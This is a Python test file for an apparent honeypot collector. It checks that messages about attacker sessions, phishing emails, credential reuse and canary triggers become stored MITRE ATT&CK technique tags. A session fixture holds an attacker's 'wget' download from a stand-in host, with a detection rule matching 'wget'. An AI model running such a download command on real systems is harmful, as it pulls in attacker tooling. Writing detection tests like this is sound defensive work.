#!/usr/bin/env python3
"""The messages of a collector, each under its NATS subject, through the program to stored tags of their source kind.

usage: collector.py PROGRAM [unittest arguments]
"""
import json
import pathlib
import signal
import sqlite3
import sys

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[1]))
import jetstream
import program

ATTACKER = "11111111-2222-4333-8444-555555555555"
IDENTITY = "99999999-8888-4777-8666-555555555555"

# subject, message, what it is evaluated as, a condition that only it fulfils, a technique
CASES = [
    ("attacker.session.ended", {"attacker_uuid": ATTACKER, "session_id": "s-1", "duration": 700, "commands": ["uname -a", "w"]},
     "session", "{field: duration, at_least: 600}", "T1021"),
    ("attacker.session.ended", {"attacker_uuid": ATTACKER, "session_id": "s-2",
                                "commands": ["ls", {"command_text": "wget http://192.0.2.1/x"}]},
     "command", "{pattern: wget}", "T1105"),
    ("email.received", {"attacker_uuid": ATTACKER, "subject": "your invoice", "mail_from": "a@b.example"},
     "email", "{pattern: invoice}", "T1566"),
    ("attacker.intel.enriched", {"attacker_uuid": ATTACKER, "verdict": "malicious"},
     "intel", "{pattern: malicious}", "T1090"),
    ("credential.reuse.detected", {"identity_uuid": IDENTITY, "username": "root", "seen_on": ["ssh", "ftp"]},
     "credential", "{field: seen_on, length: {at_least: 2}}", "T1078"),
    ("canary.tok-7.triggered", {"src_ip": "203.0.113.9", "ua_signature": "HeadlessChrome/120"},
     "canary_fingerprint", "{all_of: [{pattern: Headless}, {field: token, equals: tok-7}]}", "T1204"),
    ("identity.formed", {"identity_uuid": IDENTITY, "members": 2},
     "identity", "{all_of: [{field: members, exists: true}, {field: absorbed, exists: false}]}", "T1585"),
    ("identity.merged", {"identity_uuid": IDENTITY, "absorbed": "x"},
     "identity", "{field: absorbed, exists: true}", "T1586"),
    ("attacker.fingerprinted", {"attacker_uuid": ATTACKER, "ja3": "abc"},
     "client_fingerprint", "{field: ja3, equals: abc}", "T1071"),
]
RULE = """rule_id: R{number:04}
name: case {number}
applies_to: [{kind}]
match: {match}
emits: [{{technique_id: {technique}, confidence: 0.9}}]
"""


class Collector(program.Scenario):
    def test_message_of_each_subject_becomes_events_of_its_source_kind_and_their_tags(self):
        for number, (_, _, kind, match, technique) in enumerate(CASES):
            (self.rules / f"R{number:04}.yaml").write_text(
                RULE.format(number=number, kind=kind, match=match, technique=technique))
        stream = jetstream.Stream(self.root, ("attacker.>", "email.>", "credential.>", "canary.>", "identity.>"))
        self.addCleanup(stream.kill)
        host = self.run_host("--rules", self.rules, "--store", self.store, "--nats", stream.url())
        for subject, message, _, _, _ in CASES:
            stream.publish([json.dumps(message).encode()], subject)
        stream.publish([json.dumps({"attacker_uuid": ATTACKER, "verdict": "malicious"}).encode()], "attacker.unheard.of")
        for _, _, kind, _, technique in CASES:
            self.assertEqual(host.tag(technique)["source_kind"], kind)
        host.process.send_signal(signal.SIGTERM)
        code, rest, talk = host.end()
        self.assertEqual((code, rest), (0, ""), talk)
        self.assertIn("1 bad line", talk) # of the subject that nobody knows

        database = sqlite3.connect(self.root / "store.db")
        self.addCleanup(database.close)
        rows = database.execute("SELECT source_kind, technique_id, attacker_uuid, identity_uuid, session_id "
                                "FROM ttp_tag").fetchall()
        self.assertEqual(sorted(row[:2] for row in rows), sorted((kind, technique) for _, _, kind, _, technique in CASES))
        of = {technique: anchors for _, technique, *anchors in rows}
        self.assertEqual(of["T1105"], [ATTACKER, None, "s-2"])
        self.assertEqual(of["T1078"], [None, IDENTITY, None])
        self.assertIsNotNone(of["T1204"][0]) # made of the address
        self.assertEqual(stream.unacknowledged(), 0)


if __name__ == "__main__":
    program.main()
